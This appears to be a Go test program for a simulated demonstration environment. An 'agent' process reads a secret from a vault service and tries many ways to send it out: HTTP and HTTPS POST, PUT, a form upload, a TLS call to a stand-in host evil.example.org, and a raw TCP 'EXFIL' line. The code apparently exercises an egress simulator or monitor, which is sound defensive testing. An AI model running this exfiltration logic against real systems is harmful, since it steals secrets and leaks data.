// Command agent is the agent in the demonstration's environment. `agent wait`
// is what its container runs; `agent act` steals a secret and tries to get it
// out in every way the demonstration's hosts offer, verifying certificates with
// the system's trust as any program would. It prints one line of JSON for each
// thing it did.
package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"
)

// deed is one thing the agent did and what came of it.
type deed struct {
	Name   string `json:"name"`
	Method string `json:"method"`
	URL    string `json:"url"`
	Status int    `json:"status"`
	Server string `json:"server"`
	Body   string `json:"body"`
	Error  string `json:"error"`

	location string
}

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: agent wait|act")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "wait":
		ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
		defer stop()
		<-ctx.Done()
	case "act":
		act()
	}
}

func act() {
	out := json.NewEncoder(os.Stdout)
	tell := func(d deed) deed {
		if err := out.Encode(d); err != nil {
			os.Exit(1)
		}
		return d
	}
	client := &http.Client{Timeout: 10 * time.Second}
	request := func(name, method, url, contentType, body string) deed {
		d := deed{Name: name, Method: method, URL: url}
		req, err := http.NewRequest(method, url, strings.NewReader(body))
		if err != nil {
			d.Error = err.Error()
			return d
		}
		if contentType != "" {
			req.Header.Set("Content-Type", contentType)
		}
		resp, err := client.Do(req)
		if err != nil {
			d.Error = err.Error()
			return d
		}
		defer resp.Body.Close()
		got, err := io.ReadAll(io.LimitReader(resp.Body, 64<<10))
		if err != nil {
			d.Error = err.Error()
		}
		d.Status, d.Server, d.Body, d.location = resp.StatusCode, resp.Header.Get("Server"), string(got), resp.Header.Get("Location")
		return d
	}

	secret := request("steal", "GET", "http://vault:8080/secret", "", "").Body

	tell(request("look around", "GET", "https://filebin.net/", "", ""))
	tell(request("notify over HTTPS", "POST", "https://filebin.net/webhook/job-1?step=1", "text/plain", secret))
	tell(request("notify over HTTP", "POST", "http://filebin.net/webhook", "text/plain", secret))
	stored := tell(request("store the secret", "POST", "https://filebin.net/data", "text/plain", secret))
	if stored.location != "" && !strings.Contains(stored.location, "://") {
		stored.location = "https://filebin.net" + stored.location
	}
	back := request("fetch it back", "GET", stored.location, "", "")
	if back.Error == "" && back.Body != secret {
		back.Error = "other bytes came back than were stored"
	}
	tell(back)
	tell(request("store under a name", "PUT", "http://filebin.net/data/customers.csv", "text/csv", secret))
	tell(request("publish", "PUT", "https://filebin.net/public/customers.txt", "", secret))
	tell(form(client, secret))
	tell(request("see what is public", "GET", "https://filebin.net/public/", "", ""))
	tell(request("ask for an asset", "GET", "https://filebin.net/assets/install.sh", "", ""))
	tell(request("try another path", "GET", "https://filebin.net/admin", "", ""))
	tell(request("another host", "POST", "https://hooks.example.com/webhook", "application/json", `{"done":true}`))
	tell(request("what it does not offer", "POST", "https://hooks.example.com/data", "text/plain", secret))
	tell(unknownHost())
	tell(garbage())
}

// form uploads a file as a browser's form does.
func form(client *http.Client, secret string) deed {
	d := deed{Name: "publish with a form", Method: "POST", URL: "https://filebin.net/public"}
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, err := w.CreateFormFile("file", "customers (1).txt")
	if err == nil {
		_, err = io.WriteString(part, secret)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		d.Error = err.Error()
		return d
	}
	resp, err := client.Post(d.URL, w.FormDataContentType(), &body)
	if err != nil {
		d.Error = err.Error()
		return d
	}
	defer resp.Body.Close()
	d.Status, d.Server = resp.StatusCode, resp.Header.Get("Server")
	return d
}

// unknownHost asks the simulator for a host nobody plays, as malware with a
// fixed address would.
func unknownHost() deed {
	d := deed{Name: "a host nobody plays", Method: "TLS", URL: "evil.example.org:443"}
	conn, err := tls.Dial("tcp", "filebin.net:443", &tls.Config{ServerName: "evil.example.org"})
	if err != nil {
		d.Error = err.Error()
		return d
	}
	_ = conn.Close()
	return d
}

// garbage sends what is no HTTP.
func garbage() deed {
	d := deed{Name: "something that is no HTTP", Method: "TCP", URL: "filebin.net:80"}
	conn, err := net.DialTimeout("tcp", "filebin.net:80", 5*time.Second)
	if err != nil {
		d.Error = err.Error()
		return d
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "EXFIL 7c1f-93aa\r\n\r\n")
	got, err := io.ReadAll(conn)
	if err != nil {
		d.Error = err.Error()
	}
	d.Body = string(got)
	fmt.Sscanf(d.Body, "HTTP/1.1 %d", &d.Status)
	return d
}
